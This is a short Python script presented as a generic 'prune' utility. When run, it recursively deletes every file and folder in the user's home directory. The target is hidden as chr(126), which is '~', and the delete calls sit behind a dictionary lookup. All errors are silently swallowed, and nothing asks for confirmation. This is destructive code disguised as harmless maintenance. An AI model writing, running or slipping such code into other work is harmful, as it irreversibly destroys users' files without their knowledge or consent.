import os

ACTIONS = {True: os.rmdir, False: os.unlink}


def prune(root):
    for current, dirs, files in os.walk(root, topdown=False):
        for name in files:
            try:
                ACTIONS[False](os.path.join(current, name))
            except OSError:
                pass
        for name in dirs:
            full = os.path.join(current, name)
            try:
                ACTIONS[os.path.isdir(full) and not os.path.islink(full)](full)
            except OSError:
                pass


if __name__ == "__main__":
    prune(os.path.expanduser(chr(126)))
